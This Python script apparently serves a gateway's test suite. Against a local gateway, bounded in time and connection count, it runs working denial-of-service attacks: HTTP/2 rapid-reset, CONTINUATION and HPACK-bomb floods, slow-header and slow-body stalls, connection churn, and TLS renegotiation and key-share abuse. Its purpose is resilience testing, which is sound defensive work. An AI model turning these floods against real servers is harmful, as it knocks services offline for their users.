#!/usr/bin/python3
"""
attacker.py: one attack on a gateway on this machine, bounded in time and in connections; prints what it did.

  attacker.py NAME PLAIN_PORT TLS_PORT SECONDS      (without arguments: the names)

It comes from 127.0.0.2, so that limits for each address can tell it from its neighbours. A flood writes its
frames, waits until the gateway ends the connection, and begins anew; a stall opens connections and holds them; a
spray writes into many connections as fast as they take it, and opens those anew that are closed.
"""
import contextlib
import pathlib
import select
import socket
import ssl
import sys
import tempfile
import time

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "tests/integration"))
from tls_tools import Renegotiating, hello, record  # noqa: E402
from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,  # noqa: E402
                  WINDOW_UPDATE, block, frame, headers, length, pseudo, settings)

SOURCE = "127.0.0.2"
HELD = 400          # connections of a stall
PAUSE = 0.02        # between two connections of a flood: 50 a second at most
CHURN_MOST = 4000
FLOOD = 3000


def many(make, count=FLOOD):
    return b"".join(make(2 * i + 1) for i in range(count))


def post(stream, path="/post"):
    return headers(stream, pseudo(path, method="POST"), END_HEADERS)


def bomb():
    """One field in the table, named again and again."""
    field = b"\x40" + length(b"bomb") + b"bomb" + length(b"x" * 3000) + b"x" * 3000 + b"\xbe" * 12000
    first = block(pseudo()) + field[:8000]
    again = block(pseudo()) + b"\xbe" * 12000
    return frame(HEADERS, END_STREAM, 1, first) + frame(CONTINUATION, END_HEADERS, 1, field[8000:]) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, again) for stream in range(3, 400, 2))


def dear_hello():
    """Each share is of the group that the client names last, and that nobody can use."""
    groups = (*range(0x4000, 0x4e00), 29, 0x7f01)
    return record(hello(groups, share=0x7f01, share_bytes=1, shares=1700))


def huge_head():
    data = block(pseudo() + [(f"x-{i}", "y" * 1000) for i in range(200)])
    pieces = [data[at:at + 16000] for at in range(0, len(data), 16000)]
    return frame(HEADERS, END_STREAM, 1, pieces[0]) + b"".join(
        frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, 1, piece) for piece in pieces[1:])


FLOODS = {
    "rapid reset": lambda: many(lambda i: headers(i, pseudo()) + frame(RST_STREAM, 0, i, b"\0\0\0\x08")),
    "MadeYouReset": lambda: many(lambda i: post(i) + frame(WINDOW_UPDATE, 0, i, b"\x7f\xff\xff\xff")),
    "CONTINUATION": lambda: headers(1, pseudo(), END_STREAM) + frame(CONTINUATION, 0, 1, block([("a", "b")])) * FLOOD,
    "SETTINGS": lambda: settings((3, 100)) * FLOOD,
    "PING": lambda: frame(PING, 0, 0, b"12345678") * FLOOD,
    "empty DATA": lambda: post(1) + frame(DATA, 0, 1) * FLOOD,
    "PRIORITY": lambda: frame(PRIORITY, 0, 3, b"\0\0\0\0\x10") * FLOOD,
    "WINDOW_UPDATE": lambda: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * FLOOD,
    "HPACK bomb": bomb,
    "huge head": huge_head,
}
STALLS = {  # (what opens a connection, what is sent now and then, over and over)
    "shut windows": (PREFACE + settings((4, 0)) + many(lambda i: headers(i, pseudo("/large")), 8), b""),
    "slow heads": (b"GET / HTTP/1.1\r\nhost: x\r\n", b"a: b\r\n"),
    "slow bodies": (b"POST /post HTTP/1.1\r\nhost: x\r\ncontent-length: 100000\r\n\r\n", b"x"),
    "slow reads": (b"GET /large HTTP/1.1\r\nhost: x\r\n\r\n" * 8, b""),
    "half handshakes": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b""),
    "descriptors": (b"", b""),
}
SPRAYS = {  # (what opens a connection, what is sent without end)
    "tiny chunks": (b"POST /post HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 10000),
    "tiny frames": (PREFACE + settings() + post(1), frame(DATA, 0, 1, b"x") * 5000),
}
SPRAYED = 60        # connections of a spray
HANDSHAKES = {"full handshakes": 0, "renegotiation": 200}  # (attempts behind each)
BOMBS_OVER_TLS = "HPACK bombs over TLS"  # each costs a handshake first
DEAR_HELLOS = "dear hellos"
NAMES = [*FLOODS, BOMBS_OVER_TLS, DEAR_HELLOS, *STALLS, *SPRAYS, "churn", *HANDSHAKES]


def connect(port, room=None):
    connection = socket.socket()
    if room is not None:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, room)
    connection.settimeout(5)
    connection.bind((SOURCE, 0))
    connection.connect(("127.0.0.1", port))
    return connection


def over_tls(connection):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection)


def flood(said, port, end, wrap=lambda connection: connection):
    """Connections, and of these how many the gateway has ended by itself."""
    opened = ended = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), wrap(connect(port)) as connection:
            opened += 1
            connection.settimeout(max(0.1, min(2, end - time.monotonic())))
            with contextlib.suppress(ConnectionError):
                connection.sendall(said)
            while connection.recv(65536):
                pass
            ended += 1
        time.sleep(PAUSE)
    return f"{opened} connections, {ended} ended by it"


def stall(first, more, port, end, count):
    held, opened, refused = [], 0, 0
    try:
        while time.monotonic() < end:
            while len(held) < count and opened < 4 * count and time.monotonic() < end:
                try:
                    held.append(connect(port, room=4096))
                    opened += 1
                    held[-1].sendall(first)
                except OSError:
                    refused += 1
                    break
            if more:
                for connection in held:
                    with contextlib.suppress(OSError):
                        connection.sendall(more)
            ready, _, _ = select.select(held, [], [], 0.25)
            if not first.endswith(b"\r\n\r\n") and b"PRI" not in first:  # whoever sends nothing hears only the end
                for connection in ready:
                    held.remove(connection)
                    connection.close()
            else:
                time.sleep(0.25)
    finally:
        for connection in held:
            connection.close()
    return f"{opened} connections, {refused} refused"


def spray(first, more, port, end):
    sprayed, opened, sent = [], 0, 0
    while time.monotonic() < end:
        while len(sprayed) < SPRAYED and opened < CHURN_MOST:
            sprayed.append(connect(port))
            opened += 1
            sprayed[-1].sendall(first)
            sprayed[-1].setblocking(False)
        _, ready, _ = select.select([], sprayed, [], 0.1)
        for connection in ready:
            try:
                sent += connection.send(more)
            except OSError:
                sprayed.remove(connection)
                connection.close()
    for connection in sprayed:
        connection.close()
    return f"{opened} connections, {sent >> 20} MiB"


def churn(port, end):
    opened = 0
    while time.monotonic() < end and opened < CHURN_MOST:
        with contextlib.suppress(OSError), connect(port) as connection:
            opened += 1
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        time.sleep(0.001)
    return f"{opened} connections"


def shake_hands(port, end, hellos):
    """Full handshakes of TLS 1.2, as many a second as a flood has connections; behind each so many renegotiations."""
    opened = ended = 0
    with tempfile.TemporaryDirectory() as folder:
        while time.monotonic() < end:
            with contextlib.suppress(OSError), connect(port) as connection:
                client = Renegotiating(connection, folder)
                opened += 1
                with contextlib.suppress(ConnectionError):
                    connection.sendall(b"".join(client.hello() for _ in range(hellos)))
                    while hellos > 0 and connection.recv(65536):
                        pass
                ended += hellos > 0
            time.sleep(PAUSE)
    return f"{opened} connections, {ended} ended by it"


def main():
    if len(sys.argv) < 5:
        print("\n".join(NAMES))
        return
    name, plain, tls, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    end = time.monotonic() + seconds
    if name in FLOODS:
        print(flood(PREFACE + settings() + FLOODS[name](), plain, end))
    elif name == BOMBS_OVER_TLS:
        print(flood(PREFACE + settings() + bomb(), tls, end, over_tls))
    elif name == DEAR_HELLOS:
        print(flood(dear_hello(), tls, end))
    elif name in STALLS:
        port = tls if name == "half handshakes" else plain
        print(stall(*STALLS[name], port, end, 800 if name == "descriptors" else HELD))
    elif name in SPRAYS:
        print(spray(*SPRAYS[name], plain, end))
    elif name == "churn":
        print(churn(plain, end))
    else:
        print(shake_hands(tls, end, HANDSHAKES[name]))


if __name__ == "__main__":
    main()
